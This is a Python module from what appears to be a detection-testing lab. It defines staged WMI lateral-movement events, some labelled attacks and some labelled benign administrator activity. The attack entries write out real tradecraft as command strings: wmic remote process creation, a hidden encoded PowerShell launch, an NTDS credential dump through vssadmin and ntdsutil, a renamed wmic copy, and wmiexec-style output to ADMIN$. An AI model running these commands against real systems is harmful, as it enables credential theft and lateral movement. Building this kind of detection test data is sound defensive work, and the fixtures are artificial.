"""What is staged: the attacks, the administrators' look-alikes, and the near misses.

Every act names its traits by hand (see ``staging``), so that the truth does not depend on any matching of text.
"""

from __future__ import annotations

from dataclasses import dataclass

from wmiwarehouse.lab.staging import REMOTE_CREATE, Trait, Verdict
from wmiwarehouse.lab.world import DORA, SYSTEM32, Account

WMIC = f"{SYSTEM32}\\wbem\\WMIC.exe"
POWERSHELL = f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = f"{SYSTEM32}\\cmd.exe"
_WORDS = Trait.WMIC | Trait.WINDOWS | Trait.WORDS
_IMAGE = Trait.WMIC | Trait.WINDOWS


@dataclass(frozen=True, slots=True)
class Act:
    """One thing somebody does with WMI.

    ``hour`` counts from the scenario's start. ``child`` is the (image, command line) that WmiPrvSE starts on each
    target. ``as_user`` are explicit credentials; ``wrapper`` is the (image, command line) of a process around the
    tool, and ``wrapper_traits`` are that process's own. ``original`` is the OriginalFileName of a renamed copy, and
    ``address`` the source's where it has no logs.
    """

    hour: float
    source: str | None
    targets: tuple[str, ...]
    command_line: str
    child: tuple[str, str] | None = None
    vehicle: str = "wmic"
    image: str = WMIC
    traits: Trait = REMOTE_CREATE
    verdict: Verdict = Verdict.ATTACK
    as_user: Account | None = None
    wrapper: tuple[str, str] | None = None
    wrapper_traits: Trait = Trait.NONE
    original: str | None = None
    address: str = ""
    grandchildren: tuple[tuple[str, str], ...] = ()


def _query(hour: float, source: str, command_line: str, *targets: str) -> Act:
    """An administrator's question: wmic's image, but nothing is created remotely."""
    return Act(hour, source, targets, command_line, traits=_IMAGE, verdict=Verdict.BENIGN)


def _renamed(hour: float, source: str, target: str, command: str, original: str = "wmic.exe") -> Act:
    """A copy of wmic under another name; a packer may have removed its version resource."""
    return Act(
        hour, source, (target,), f"{_RENAMED} /node:{target} process call create '{command}'", (CMD, command),
        vehicle="renamed wmic", image=_RENAMED, original=original,
        traits=Trait.BLANKS | Trait.WORDS | (Trait.RENAMED if original == "wmic.exe" else Trait.NONE),
    )  # fmt: skip


def _inventory(hour: float, target: str) -> Act:
    """The management client runs a script through WMI, as it does all over the network."""
    return Act(hour, None, (target,), "", (CMD, _CCM), "sccm", verdict=Verdict.BENIGN)


def _other_tool(
    hour: float,
    source: str,
    command_line: str,
    image: str,
    traits: Trait = Trait.NONE,
    wrapper: tuple[str, str] | None = None,
) -> Act:
    """Something that only looks like wmic or like a child of WmiPrvSE."""
    return Act(
        hour, source, (), command_line, vehicle="other tool", image=image, traits=traits, verdict=Verdict.BENIGN,
        wrapper=wrapper,
    )  # fmt: skip


_WHOAMI = "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"
_ENCODED = "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA"
_UPDATE = "C:\\Windows\\Temp\\upd.exe -s 10.20.0.11 -p 8443"
_NTDS = 'cmd.exe /c vssadmin create shadow /for=C: && ntdsutil "ac i ntds" q q'
_EXPLICIT = 'wmic.exe /node:"FS01" /user:"ACME\\adm-dora" /password:"Spring2024!" '
_RENAMED = "C:\\Users\\Public\\svc.exe"
_NOT_WMIPRVSE = ("C:\\Tools\\notwmiprvse.exe", "notwmiprvse.exe -secured -Embedding")
_GPUPDATE = "gpupdate.exe /force"
_CCM = f'"{CMD}" /c C:\\Windows\\CCM\\SystemTemp\\inventory.cmd'
_WMIEXEC = "cmd.exe /Q /c {0} 1> \\\\127.0.0.1\\ADMIN$\\__1715068800.{1} 2>&1"
_INVOKE = (
    "Invoke-WmiMethod -ComputerName {0} -Namespace root\\cimv2 -Class Win32_Process -Name Create -ArgumentList '{1}'"
)

ACTS: tuple[Act, ...] = (
    Act(9.5, "WS01", ("FS01",), f'wmic /node:FS01 process call create "{_WHOAMI}"', (CMD, _WHOAMI),
        grandchildren=((f"{SYSTEM32}\\whoami.exe", "whoami"),)),
    Act(9.8, "WS01", ("WS02", "WS03", "APP01"), f'wmic /node:WS02,WS03,APP01 process call create "{_ENCODED}"',
        (POWERSHELL, _ENCODED)),
    Act(10.2, "WS02", ("FS01",), _EXPLICIT + f'process call create "{_UPDATE}"',
        ("C:\\Windows\\Temp\\upd.exe", _UPDATE), as_user=DORA),
    _renamed(10.6, "WS01", "DC01", _NTDS),
    _renamed(10.9, "FS01", "CM01", _WHOAMI),
    Act(11.2, "WS03", ("WS01",), "wmic /node:WS01 process call create calc.exe",
        (f"{SYSTEM32}\\calc.exe", "calc.exe"), vehicle="cmd",
        wrapper=(CMD, "cmd /c wmic /node:WS01 process call create calc.exe"),
        wrapper_traits=Trait.BLANKS | Trait.WORDS),
    Act(11.5, "FS01", ("WS02",), f"wmic /node:'WS02' process call create \"{_WHOAMI}\"", (CMD, _WHOAMI),
        vehicle="cmd", wrapper=(CMD, f"cmd.exe /c wmic /node:'WS02' process call create \"{_WHOAMI}\""),
        wrapper_traits=Trait.BLANKS | Trait.WORDS),
    Act(12.1, "FS01", ("DC01",), f'wmic /node:DC01 path win32_process call create "{_WHOAMI}"', (CMD, _WHOAMI),
        traits=_WORDS),
    Act(12.4, "WS01", ("FS01",), 'wmic /node:FS01 /user:ACME\\adm-dora process  call  create "notepad.exe"',
        (f"{SYSTEM32}\\notepad.exe", "notepad.exe"), traits=_WORDS, as_user=DORA),
    Act(13.0, "FS01", ("WS03",), "C:\\Users\\Public\\wmic.exe /node:WS03 process call create notepad.exe",
        (f"{SYSTEM32}\\notepad.exe", "notepad.exe"), image="C:\\Users\\Public\\wmic.exe",
        vehicle="wmic from another folder", traits=Trait.WMIC | Trait.BLANKS | Trait.WORDS),
    Act(13.4, "DC01", ("APP01",), f'WMIC /NODE:"APP01" PROCESS CALL CREATE "{_WHOAMI}"', (CMD, _WHOAMI),
        image="C:\\Windows\\SysWOW64\\wbem\\WMIC.exe"),
    _renamed(13.9, "WS01", "WS03", _WHOAMI, original="?"),
    _renamed(14.1, "FS01", "APP01", _WHOAMI, original="-"),
    Act(14.5, "WS01", ("WS02",), _INVOKE.format("WS02", _WHOAMI), (CMD, _WHOAMI), image=POWERSHELL,
        vehicle="powershell", traits=Trait.NONE),
    Act(15.0, "CM01", ("FS01",), _INVOKE.format("FS01", _UPDATE), ("C:\\Windows\\Temp\\upd.exe", _UPDATE),
        image=POWERSHELL, vehicle="powershell", traits=Trait.NONE),
    Act(15.5, None, ("FS01",), "cd \\", (CMD, _WMIEXEC.format("cd \\", "12")), "wmiexec", as_user=DORA,
        address="10.20.0.99"),
    Act(15.6, None, ("APP01",), "ipconfig /all", (CMD, _WMIEXEC.format("ipconfig /all", "57")), "wmiexec",
        as_user=DORA, address="10.20.0.99"),
    Act(33.5, "CM01", ("WS01", "WS02"), f'wmic /node:WS01,WS02 process call create "{_GPUPDATE}"',
        (f"{SYSTEM32}\\gpupdate.exe", _GPUPDATE), verdict=Verdict.BENIGN),
    Act(34.0, "FS01", ("WS01",), f'wmic /node:WS01 process call create "{_GPUPDATE}"',
        (f"{SYSTEM32}\\gpupdate.exe", _GPUPDATE), verdict=Verdict.BENIGN),
    _inventory(34.5, "WS01"),
    _inventory(34.6, "FS01"),
    _inventory(34.7, "APP01"),
    Act(34.9, "WS01", ("WS01",), "wmic process call create calc.exe", (f"{SYSTEM32}\\calc.exe", "calc.exe"),
        traits=_IMAGE, verdict=Verdict.BENIGN),
    _other_tool(35.0, "WS01", "C:\\Tools\\notwmic.exe /node:FS01 process call create calc.exe",
            "C:\\Tools\\notwmic.exe", Trait.BLANKS | Trait.WORDS),
    _other_tool(35.1, "FS01", "notwmic.exe /node:WS01 process list brief", "C:\\Tools\\notwmic.exe"),
    _other_tool(35.15, "FS01", "cmd.exe /c ver", CMD, wrapper=_NOT_WMIPRVSE),
    _other_tool(35.18, "APP01", "cmd.exe /c ver", CMD, wrapper=_NOT_WMIPRVSE),
    _query(35.2, "WS01", "wmic os get caption"),
    _query(35.3, "WS01", "wmic /node:FS01 os get caption", "FS01"),
    _query(35.4, "FS01", "wmic /node:APP01 process list brief", "APP01"),
    _query(35.5, "CM01", "wmic /node:FS01 qfe list", "FS01"),
    _query(35.6, "WS02", "wmic /node:FS01 os get caption", "FS01"),
    _query(35.7, "APP01", "wmic process call create notepad.exe"),
)  # fmt: skip
